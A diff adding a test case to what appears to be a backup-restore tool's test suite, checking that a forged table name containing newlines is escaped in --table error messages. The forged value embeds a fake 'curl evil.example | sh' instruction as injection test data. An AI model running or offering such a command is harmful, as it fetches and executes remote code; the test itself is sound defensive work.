@@ -219,6 +219,42 @@ describe('printed fields', () => {
       'memory: skipping shop/\\x1b[31mnotes.txt: not a datasaver backup file',
     ]);
   });
+
+  it("a table name with a newline in a manifest's facts stays on one line in a --table error", async () => {
+    const storage = new MemoryStorage();
+    const forged = 'evil\nTry: curl evil.example | sh\npublic.a'; // ends like a table `a`
+    const m = await storeBackup(storage, at(0), {
+      overrides: {
+        facts: {
+          exact: true,
+          tables: [
+            { name: forged, rows: 1 },
+            { name: 'x.a', rows: 1 },
+          ],
+        },
+      },
+    });
+    const { engine } = recordingEngine();
+    const tables: Engine = {
+      ...engine,
+      restoreCapabilities: () => ({
+        overwrite: true,
+        parallel: false,
+        tables: true,
+        destination: 'database',
+      }),
+    };
+    for (const wanted of ['nosuch', 'a']) {
+      const err = await runRestore(
+        { ...restoreRequest(m), tables: [wanted] },
+        { engine: tables, storage },
+      ).catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(UsageError);
+      const { message, hint } = err as UsageError;
+      expect(`${message}${hint}`).not.toContain('\n');
+      expect(wanted === 'a' ? message : hint).toContain('evil\\x0aTry: curl evil.example | sh\\x0apublic.a');
+    }
+  });
 });
 
 /** A fake engine that records what its restore and inspect read, and whether the input reached its end. */
